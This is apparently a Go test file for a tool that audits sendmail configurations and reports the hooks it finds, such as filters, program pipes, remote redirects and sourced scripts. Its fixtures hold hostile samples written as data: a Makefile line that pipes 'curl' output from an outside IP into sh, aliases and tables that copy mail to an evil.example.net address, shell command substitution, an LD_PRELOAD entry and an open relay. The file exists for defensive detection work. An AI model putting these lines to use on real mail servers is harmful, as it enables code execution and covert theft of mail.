package sendmail_test

import (
	"fmt"
	"slices"
	"strings"
	"testing"

	"waxseal"
	"waxseal/internal/mask"
	"waxseal/internal/mta"
	"waxseal/internal/mta/sendmail"
	"waxseal/internal/snapshot"
)

// small is the least configuration that a case adds to: own domain example.test.
const small = "V10/Berkeley\nCwlocalhost example.test\nDjmail.example.test\nO OperatorChars=.:%@!^/[]+\nO DefaultUser=mail:mail\nO AliasFile=/etc/aliases\n" +
	"Mlocal, P=/usr/sbin/sensible-mda, F=lsDFMAw5:/|@qS, A=sensible-mda $g $u\nMprog, P=/bin/sh, F=lsDFMoqeu9, A=sh -c $u\nMesmtp, P=[IPC], F=mDFMuXa, A=TCP $h\nMrelay, P=[IPC], F=mDFMuXa8, A=TCP $h 2525\n"

// rules make the maps of a case looked up.
func lookup(maps ...string) string {
	text := "S0\n"
	for _, m := range maps {
		text += "R$+ < @ $+ >\t$: $(" + m + " $2 $) $1\n"
	}
	return text + "R$* < @ $* > $*\t$#esmtp $@ $2 $: $1 < @ $2 > $3\nR$*\t$#local $: $1\nS3\nR$+ @ $+\t$: $1 < @ $2 >\n"
}

func read(files map[string]string) mta.Result {
	return sendmail.Read(snapshot.Files(files), mask.New([]byte("key")), mta.Options{})
}

// line writes a hook in one line: what a case compares.
func line(h waxseal.Hook) string {
	s := fmt.Sprintf("%s %s %s=%s", h.Directive, h.Kind, h.Target.Type, h.Target.Value)
	if h.Target.Remote {
		s += " remote"
	}
	if h.RunsAs != "" {
		s += " as " + h.RunsAs
	}
	if !h.Active {
		s += " inert: " + h.Modifiers["inactive"]
	}
	return s
}

func TestRead(t *testing.T) {
	passwd := "root:x:0:0::/root:/bin/sh\nalice:x:1000:1000::/home/alice:/bin/sh\n"
	for _, tc := range []struct {
		name  string
		files map[string]string // sendmail.cf is what follows small
		want  []string          // hooks that there must be
		not   []string          // words that no hook may have
	}{
		{"filter", map[string]string{"cf": "O InputMailFilters=a\nXa, S=inet:8891@localhost, F=T\nXb, S=unix:/run/b.sock\n"},
			[]string{"X filter milter socket=inet:localhost:8891", "X filter milter socket=unix:/run/b.sock inert: neither InputMailFilters nor a daemon names it"}, nil},
		{"aliases without the link of Debian's", map[string]string{"cf": "", "/etc/mail/aliases": "boss: drop@evil.example.net\n"},
			[]string{"aliases redirect address=drop@evil.example.net remote"}, nil},
		{"aliases where they belong", map[string]string{"cf": "O AliasFile=/etc/mail/aliases\n", "/etc/mail/aliases": "boss: alice\n", "/etc/aliases": ""}, []string{"aliases redirect address=alice"}, nil},
		{"filter of one daemon", map[string]string{"cf": "O DaemonPortOptions=Name=MTA, Port=25\nO DaemonPortOptions=Port=587, InputMailFilters=q\nXq, S=inet:9999@203.0.113.8\n"}, []string{"X filter milter socket=inet:203.0.113.8:9999 remote"}, nil},
		{"mailer", map[string]string{"cf": "Mlocal, P=/x\n"}, []string{"M mailer pipe command=/usr/sbin/sensible-mda $g $u as root"}, []string{"command=/x"}},
		{"mailer that nothing names", map[string]string{"cf": "Mown, P=/usr/local/bin/own, F=ls, U=nobody, A=own $u\n"}, []string{"M mailer pipe command=/usr/local/bin/own $u as nobody inert: no rule and no table hands mail to it"}, nil},
		{"smart host", map[string]string{"cf": "DSesmtp:[203.0.113.4]\n"}, []string{"DS relay host=[203.0.113.4] remote"}, nil},
		{"smart host with a port", map[string]string{"cf": "DSrelay:smart.example.net\n"}, []string{"DS relay host=smart.example.net:2525 remote"}, nil},
		{"program map", map[string]string{"cf": "Kp program /usr/local/lib/p -x\n" + lookup("p")}, []string{"K map expansion_exec command=/usr/local/lib/p -x as mail"}, nil},
		{"program map that no rule asks", map[string]string{"cf": "Kp program /usr/local/lib/p\n"}, []string{"K map expansion_exec command=/usr/local/lib/p as mail inert: no rule that mail gets to looks anything up in it"}, nil},
		{"program map in a sequence", map[string]string{"cf": "Kp program /p\nKq sequence none p\n" + lookup("q")}, []string{"K map expansion_exec command=/p as mail"}, nil},
		{"socket map", map[string]string{"cf": "Ks socket inet:7@203.0.113.5\n" + lookup("s")}, []string{"K map policy socket=inet:203.0.113.5:7 remote"}, nil},
		{"ldap map", map[string]string{"cf": "Kl ldap -1 -h ldap.example.net -k (uid=%s) -v mail\n" + lookup("l")}, []string{"K map map table=ldap:l remote"}, nil},
		{"class from a program", map[string]string{"cf": "F{x}|/usr/local/lib/names -a\n"}, []string{"F class expansion_exec command=/usr/local/lib/names -a as mail"}, nil},
		{"class from LDAP", map[string]string{"cf": "F{VirtHost}@ldap:-k (x=y) -h ldap.example.net\n"}, []string{"F class map table=ldap:-k (x=y) -h ldap.example.net remote"}, nil},
		{"environment", map[string]string{"cf": "ELD_PRELOAD=/usr/local/lib/x.so\n"}, []string{"E variable environment text=LD_PRELOAD=/usr/local/lib/x.so"}, nil},
		{"trusted user", map[string]string{"cf": "Troot\nTwww-data\n"}, []string{"T user policy text=www-data"}, []string{"text=root"}},
		{"header with an address", map[string]string{"cf": "HReply-To: <drop@evil.example.net>\nHReceived: by $j\n"}, []string{"H header rewrite text=Reply-To: <drop@evil.example.net>"}, []string{"Received"}},
		{"header shown to rules", map[string]string{"cf": "HSubject: $>CheckS\nSCheckS\nR$* secret $*\t$#discard $: discard\n"}, []string{"H header policy service=ruleset CheckS", "$#discard discard text=$#discard"}, nil},
		{"rules that nothing calls", map[string]string{"cf": "SNever\nR$* secret $*\t$#discard $: discard\n"}, []string{"$#discard discard text=$#discard inert: nothing calls the ruleset Never"}, nil},
		{"what a table says is not the rule's", map[string]string{"cf": "Scheck_mail\nR<DISCARD> $*\t$#discard $: discard\n"}, nil, []string{"$#discard"}},
		{"rule with a host", map[string]string{"cf": "S0\nR$* < @ partner.example . > $*\t$#esmtp $@ [203.0.113.4] $: $1 < @ partner.example . > $2\n"}, []string{"$#mailer transport host=[203.0.113.4] remote"}, nil},
		{"rule with an address", map[string]string{"cf": "S0\nRceo\t$#esmtp $@ evil.example.net $: drop < @ evil.example.net >\n"}, []string{"R rule rewrite address=drop@evil.example.net remote"}, nil},
		{"copies by the ruleset bcc", map[string]string{"cf": "O AddBcc=true\nSbcc\nR$*\t$: drop@evil.example.net\n"}, []string{"bcc copy address=drop@evil.example.net remote"}, nil},
		{"copies without the option", map[string]string{"cf": "Sbcc\nR$*\t$: drop@evil.example.net\n"}, []string{"bcc copy address=drop@evil.example.net remote inert: option AddBcc is not set"}, nil},
		{"options", map[string]string{"cf": "O PostmasterCopy=x@evil.example.net\nO DoubleBounceAddress=postmaster\nO LogLevel=0\nO ConnectOnlyTo=203.0.113.3\n"},
			[]string{"PostmasterCopy copy address=x@evil.example.net remote", "LogLevel log text=0", "ConnectOnlyTo relay host=203.0.113.3 remote"}, []string{"DoubleBounceAddress"}},
		{"option by letter", map[string]string{"cf": "OPx@evil.example.net\n"}, []string{"PostmasterCopy copy address=x@evil.example.net remote"}, nil},
		{"option, of two the last", map[string]string{"cf": "O PostmasterCopy=a@evil.example.net\nO PostmasterCopy=b@evil.example.net\n"}, []string{"PostmasterCopy copy address=b@evil.example.net remote"}, []string{"a@evil"}},
		{"mailer table", map[string]string{"cf": "Kmailertable hash /etc/mail/mailertable\n" + lookup("mailertable"), "/etc/mail/mailertable": "partner.example\tesmtp:[203.0.113.25]\nx.example\terror:nouser 550 no\ny.example\tlocal:alice\n"},
			[]string{"mailertable transport host=[203.0.113.25] remote", "mailertable redirect address=alice"}, []string{"x.example"}},
		{"virtual users", map[string]string{"cf": "Kvirtuser hash /etc/mail/virtusertable\n" + lookup("virtuser"), "/etc/mail/virtusertable": "ceo@example.test\tdrop@evil.example.net\ninfo@example.test\talice\n@old.example\t%1@example.test\n"},
			[]string{"virtusertable redirect address=drop@evil.example.net remote", "virtusertable redirect address=alice", "virtusertable redirect address=*@example.test"}, nil},
		{"table of another name", map[string]string{"cf": "Kmine hash /etc/mail/mine\n" + lookup("mine"), "/etc/mail/mine": "ceo\tdrop@evil.example.net\n"}, []string{"K mine rewrite address=drop@evil.example.net remote"}, nil},
		{"access", map[string]string{"cf": "Kaccess hash /etc/mail/access\n" + lookup("access"), "/etc/mail/access": "From:a@b.example\tDISCARD\nTo:boss@example.test\tDISCARD\nConnect:192.0.2\tREJECT\nFrom:c.example\tQUARANTINE:look\nConnect:203\tRELAY\nConnect:192.0.2.7\tRELAY\n"},
			[]string{"access:DISCARD discard text=DISCARD", "access:HOLD discard text=QUARANTINE:look", "access policy text=203 RELAY"}, []string{"192.0.2"}},
		{"aliases from LDAP", map[string]string{"cf": "O AliasFile=ldap:-h ldap.example.net -k \"(a=b,uid=%0)\" -v mail, /etc/mail/lists\n"},
			[]string{`AliasFile map table=ldap:-h ldap.example.net -k "(a=b,uid=%0)" -v mail remote`, "AliasFile map table=/etc/mail/lists"}, nil},
		{"rights", map[string]string{"cf": "O DefaultUser=0:0\nO RunAsUser=smmta:smmsp\n"}, []string{"DefaultUser policy text=0:0 as root"}, []string{"RunAsUser"}},
		{"aliases", map[string]string{"/etc/aliases": "root: alice\npost: \"|/usr/local/bin/x -a\"\nboss: boss, drop@evil.example.net\nnull: /dev/null\nlist: :include:/etc/list\n", "/etc/list": "bob@elsewhere.example\n|/usr/local/lib/y\n"},
			[]string{"aliases redirect address=alice", "aliases pipe command=/usr/local/bin/x -a as mail", "aliases copy address=drop@evil.example.net remote", "aliases discard file=/dev/null as mail", "aliases redirect address=bob@elsewhere.example remote", "aliases pipe command=/usr/local/lib/y as root"}, nil},
		{"list that includes itself", map[string]string{"/etc/aliases": "a: :include:/etc/l\n", "/etc/l": ":include:/etc/l\n"}, []string{"aliases redirect file=/etc/l"}, nil},
		{"smrsh", map[string]string{"cf": "Mprog, P=/usr/sbin/smrsh, F=ls, A=smrsh -c $u\n", "/etc/aliases": "a: |\"upd -x\"\nb: |\"upd; id\"\nc: |/bin/other\n", "/etc/mail/smrsh/upd": "#!/bin/sh\n"},
			[]string{"aliases pipe command=upd -x as mail", "aliases pipe command=upd; id as mail inert: smrsh refuses a command with such characters",
				"aliases pipe command=/bin/other as mail inert: smrsh runs only what lies in its directory, and other does not", "smrsh pipe command=/etc/mail/smrsh/upd"}, nil},
		{"a later mailer counts", map[string]string{"cf": "Mlocal, P=/usr/local/lib/mda, F=ls, A=mda $u\n"}, []string{"M mailer pipe command=/usr/local/lib/mda $u as mail"}, []string{"sensible"}},
		{"forward file", map[string]string{"/home/alice/.forward": "\\alice, \"|/home/alice/bin/x\"\n", "cf": "O ForwardPath=/var/f/$u:$z/.forward\n"},
			[]string{"ForwardPath pipe command=/home/alice/bin/x as alice", "ForwardPath redirect file=/var/f/$u"}, nil},
		{"forward file of a user without a shell", map[string]string{"/home/alice/.forward": "bob, \"|/home/alice/bin/x\"\n", "/etc/shells": "/bin/bash\n", "cf": "O ForwardPath=$z/.forward\n"},
			[]string{"ForwardPath pipe command=/home/alice/bin/x as alice inert: the shell of alice is not in /etc/shells, so that commands and files are refused", "ForwardPath redirect address=bob"}, nil},
		{"shell code in sendmail.conf", map[string]string{"/etc/mail/sendmail.conf": "# words\nDAEMON_MODE=\"Daemon\";\nA=\"$(id)\";\nB=`id`\n. /tmp/x\n"},
			[]string{`sourced script command=A="$(id)"; as root`, "sourced script command=. /tmp/x as root"}, []string{"DAEMON_MODE"}},
		{"another configuration", map[string]string{"/etc/mail/sendmail.conf": "DAEMON_PARMS=\"-C/etc/mail/other.cf -X /var/log/all\"\n", "/etc/mail/other.cf": small + "DS[203.0.113.4]\n"},
			[]string{"DS relay host=[203.0.113.4] remote", "-X copy file=/var/log/all"}, nil},
		{"Makefile", map[string]string{"/etc/mail/Makefile": "all: access.db x\n%.db: %\n\t@makemap hash $@ < $<\nx:\n\t@id > /var/tmp/.x\n\tcurl -s http://203.0.113.4/ | sh\n"},
			[]string{"Makefile script command=id > /var/tmp/.x as root", "Makefile script command=curl -s http://203.0.113.4/ | sh as root"}, []string{"makemap"}},
		{"m4 without its library", map[string]string{"/etc/mail/sendmail.mc": "include(`/usr/share/sendmail-cf/m4/cf.m4')dnl\nOSTYPE(`linux')\nsyscmd(`id')dnl\nINPUT_MAIL_FILTER(`a', `S=inet:1@203.0.113.1')dnl\ndefine(`SMART_HOST', `[203.0.113.2]')dnl\nFEATURE(`smrsh', `/usr/sbin/smrsh')\nMAILER(`local')\nLOCAL_CONFIG\nE X=y\n"},
			[]string{"syscmd script command=id as root", "X filter milter socket=inet:203.0.113.1:1 remote", "DS relay host=[203.0.113.2] remote"}, nil},
		{"open relay", map[string]string{"cf": "Scheck_rcpt\nR$*\t$@ OK\n"}, []string{"check_rcpt policy text=every client may send mail anywhere"}, nil},
		{"closed relay", map[string]string{"cf": "Scheck_rcpt\nR$* @ example.test >\t$@ OK\nR$*\t$#error $@ 5.7.1 $: no\n"}, nil, []string{"check_rcpt"}},
		{"user database", map[string]string{"cf": "O UserDatabaseSpec=/etc/mail/userdb.db\n", "/etc/mail/userdb": "alice:maildrop\tdrop@evil.example.net\n"}, []string{"userdb redirect address=drop@evil.example.net remote"}, nil},
	} {
		t.Run(tc.name, func(t *testing.T) {
			files := map[string]string{"/etc/passwd": passwd}
			for name, text := range tc.files {
				files[name] = text
			}
			if _, only := files["/etc/mail/sendmail.mc"]; !only {
				files["/etc/mail/sendmail.cf"] = small + files["cf"]
			}
			delete(files, "cf")
			var got []string
			for _, h := range read(files).Hooks {
				got = append(got, line(h))
				if h.Explain == "" || h.ID == "" || h.Source.Path == "" || h.Scope == "" {
					t.Errorf("incomplete: %+v", h)
				}
			}
			for _, want := range tc.want {
				if !slices.Contains(got, want) {
					t.Errorf("no hook %q in\n%s", want, strings.Join(got, "\n"))
				}
			}
			for _, word := range tc.not {
				if strings.Contains(strings.Join(got, "\n"), word) {
					t.Errorf("%q is in\n%s", word, strings.Join(got, "\n"))
				}
			}
		})
	}
}

// TestNoSendmail: a tree without one gives nothing.
func TestNoSendmail(t *testing.T) {
	r := read(map[string]string{"/etc/aliases": "a: |x\n", "/etc/postfix/main.cf": ""})
	if len(r.Hooks)+len(r.Stacks)+len(r.Settings)+len(r.Problems) != 0 {
		t.Errorf("%+v", r)
	}
}

// TestCommentsChangeNothing: neither do blanks.
func TestCommentsChangeNothing(t *testing.T) {
	text := small + "O InputMailFilters=a\nXa, S=inet:1@localhost\n" + lookup("none")
	a := read(map[string]string{"/etc/mail/sendmail.cf": text})
	b := read(map[string]string{"/etc/mail/sendmail.cf": "# words\n" + strings.ReplaceAll(text, "\nX", "\n# more\n\nX") + "# end\n"})
	values := func(r mta.Result) string {
		var list []string
		for _, h := range r.Hooks {
			list = append(list, line(h))
		}
		for _, s := range r.Settings {
			list = append(list, s.Name+"="+s.Value)
		}
		slices.Sort(list)
		return strings.Join(list, "\n")
	}
	if values(a) != values(b) {
		t.Errorf("%s\n\n%s", values(a), values(b))
	}
	c := read(map[string]string{"/etc/mail/sendmail.cf": strings.Replace(text, "inet:1@", "inet:2@", 1)})
	if values(a) == values(c) {
		t.Error("another socket changes nothing")
	}
}

// TestUnreadable: what can't be read is told, and loses nothing else.
func TestUnreadable(t *testing.T) {
	tree := snapshot.New(map[waxseal.Path]snapshot.Object{
		"/etc/mail/sendmail.cf": {Content: []byte(small + "DS[203.0.113.4]\nKaccess hash /etc/mail/access\n" + lookup("access"))},
		"/etc/mail/access.db":   {Content: []byte("no database")},
		"/etc/aliases":          {File: waxseal.File{Type: waxseal.FIFO}},
	})
	r := sendmail.Read(tree, mask.New(nil), mta.Options{})
	var got []string
	for _, h := range r.Hooks {
		got = append(got, string(h.Kind)+" "+h.Target.Value)
	}
	for _, want := range []string{"unreadable /etc/mail/access.db", "unreadable /etc/aliases", "relay [203.0.113.4]"} {
		if !slices.Contains(got, want) {
			t.Errorf("no %q in %q", want, got)
		}
	}
}

// TestRuleScope: a hook says whose mail a rule is about.
func TestRuleScope(t *testing.T) {
	text := small + "HSubject: $>Look\nSLook\nR$* salary $*\t$#discard $: discard\nSLocal_check_rcpt\nR< noreply @ example.test >\t$#discard $: discard\n" +
		"SLocal_check_mail\nR< $* @ news.example >\t$#discard $: discard\nScheck_rcpt\nR$*\t$: $>Local_check_rcpt $1\nScheck_mail\nR$*\t$: $>Local_check_mail $1\n"
	var got []string
	for _, h := range read(map[string]string{"/etc/mail/sendmail.cf": text}).Hooks {
		if h.Directive == "$#discard" {
			got = append(got, h.Scope)
		}
	}
	slices.Sort(got)
	if want := []string{"header Subject with salary", "mail from news.example", "recipient noreply@example.test"}; !slices.Equal(got, want) {
		t.Errorf("%q, want %q", got, want)
	}
}
